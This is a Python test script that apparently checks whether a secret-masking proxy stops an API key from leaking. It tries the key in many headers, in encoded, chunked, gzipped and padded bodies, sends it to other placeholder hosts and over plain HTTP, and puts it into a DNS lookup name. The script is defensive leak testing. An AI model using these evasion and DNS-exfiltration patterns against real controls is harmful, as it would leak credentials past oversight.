# Case 19: has the placeholder of a secret become the secret where that does not go:
# in other places of a request, in encodings, to other hosts, without TLS.
import gzip
from http.client import HTTPException

from attempts import *
from masked import *

key = KEY.encode()


def send(method, target, headers=(), body=None, pieces=None, base=None):
    """What is not refused has arrived."""
    scheme, host = (base or BASE).split("://")
    c = (HTTPSConnection if scheme == "https" else HTTPConnection)(host, timeout=10)
    try:
        c.putrequest(method, target, skip_accept_encoding=True)
        for k, v in headers:
            c.putheader(k, v)
        if pieces is not None:
            c.putheader("Transfer-Encoding", "chunked")
            c.endheaders()
            for p in pieces:
                c.send(b"%x\r\n" % len(p) + p + b"\r\n")
            c.send(b"0\r\n\r\n")
        elif body is not None:
            c.putheader("Content-Length", str(len(body)))
            c.endheaders(body)
        else:
            c.endheaders()
        r = c.getresponse()
        text = r.read()
        return (r.status, text) if r.status < 400 else None
    except HTTPException as e:
        raise OSError(type(e).__name__)


for header in (f"X-Api-Key: {KEY}", f"Authorization: Token {KEY}", f"Authorization: Bearer  {KEY}", f"Authorization: Bearer {KEY}.", f"Cookie: a={KEY}", f"{KEY}: x",
               "Authorization: Basic " + base64.b64encode(f"x:{KEY}".encode()).decode(), f"Proxy-Authorization: Bearer {KEY}"):
    name, value = header.split(": ", 1)
    attempt(header.replace(KEY, "KEY")[:40], lambda: send("GET", "/v1/x", [(name, value)]))
    attempt("beside it, " + header.replace(KEY, "KEY")[:40], lambda: send("GET", "/v1/x", [*OWN, (name, value)]))
encoded = {k: v for k, v in forms(key).items() if k in ("raw", "hex", "HEX", "url")}
encoded |= {"base64": base64.b64encode(key), "base64 within": base64.b64encode(b"x=" + key + b"!"), "base64url": base64.urlsafe_b64encode(b"{" + key + b"}")}
for name, form in encoded.items():
    query = urllib.parse.quote(form.decode(), safe="%")
    for own in ((), OWN):
        also = "it and " if own else ""
        attempt(f"{also}{name} in the query", lambda: send("GET", "/v1/find?q=" + query, own))
        attempt(f"{also}{name} in the path", lambda: send("GET", "/v1/" + query, own))
        attempt(f"{also}{name} in the body", lambda: send("POST", "/v1/upload", own, body=b"x=" + form + b"&y=1"))
        attempt(f"{also}{name} in pieces", lambda: send("POST", "/v1/upload", own, pieces=[b"x=" + form[:5], form[5:9], form[9:], b"&y=1"]))
        attempt(f"{also}{name} far behind", lambda: send("POST", "/v1/upload", own, body=b"a" * 300000 + form + b"a" * 300000))
        attempt(f"{also}{name} packed", lambda: send("POST", "/v1/upload", [*own, ("Content-Encoding", "gzip")], body=gzip.compress(b"x" * 5000 + form)))
for base in ("https://api.example", "http://api.example", "http://api.vault.example"):
    attempt("to " + base, lambda: send("GET", "/v1/x", OWN, base=base))
    attempt("in a body to " + base, lambda: send("POST", "/v1/x", body=key, base=base))
attempt("by another path", lambda: send("GET", "/v2/x", OWN))
attempt("in a name", lambda: socket.getaddrinfo(KEY.lower().replace("_", "-") + ".example", 80))
